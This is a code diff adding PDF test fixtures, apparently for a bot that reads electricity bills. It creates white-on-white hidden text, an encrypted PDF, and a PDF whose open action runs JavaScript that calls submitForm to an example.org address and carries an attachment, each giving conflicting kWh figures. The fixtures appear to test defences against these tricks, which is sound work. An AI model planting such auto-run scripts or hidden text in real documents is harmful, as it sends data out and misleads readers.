@@ -6,7 +6,7 @@ from collections.abc import Callable, Mapping, Sequence
 
 import typst
 from pypdf import PdfReader, PdfWriter
-from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject
+from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject
 
 from bot.papers.found import LARGEST, MOST_LINES, MOST_PAGES
 
@@ -16,12 +16,13 @@ PAPER = """
 #for line in told {
   if type(line) == array { grid(columns: (3fr,) + (line.len() - 1) * (1fr,), ..line) } else { text(line); parbreak() }
 }
+#text(fill: white, sys.inputs.unseen)
 """
 
 
-def paper(lines: Sequence[str | Sequence[str]]) -> bytes:
-    """A PDF with these lines; of what is in columns a line is the texts of its cells."""
-    return bytes(typst.compile(PAPER.encode(), sys_inputs={"told": json.dumps(lines)}))
+def paper(lines: Sequence[str | Sequence[str]], unseen: str = "") -> bytes:
+    """A PDF with these lines; of what is in columns a line is the texts of its cells. What is `unseen` is white on white."""
+    return bytes(typst.compile(PAPER.encode(), sys_inputs={"told": json.dumps(lines), "unseen": unseen}))
 
 
 def blank(pages: int) -> bytes:
@@ -32,9 +33,20 @@ def blank(pages: int) -> bytes:
     return _written(writer)
 
 
-def locked() -> bytes:
+def locked(password: str = "a password") -> bytes:
+    """One that opens with this; without one everybody may read it, and only its maker change it."""
     writer = PdfWriter(clone_from=PdfReader(io.BytesIO(paper(["80 kWh electricity"]))))
-    writer.encrypt("a password")
+    writer.encrypt(password, "the maker's")
+    return _written(writer)
+
+
+def scripted() -> bytes:
+    """It runs a script where it is opened, says something in white, and carries another file."""
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(paper(["80 kWh electricity"], unseen="90 kWh electricity"))))
+    script = TextStringObject("app.alert('60 kWh electricity'); this.submitForm('https://example.org');")
+    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script})
+    writer.root_object[NameObject("/OpenAction")] = action
+    writer.add_attachment("bill.txt", b"70 kWh electricity")
     return _written(writer)
 
 
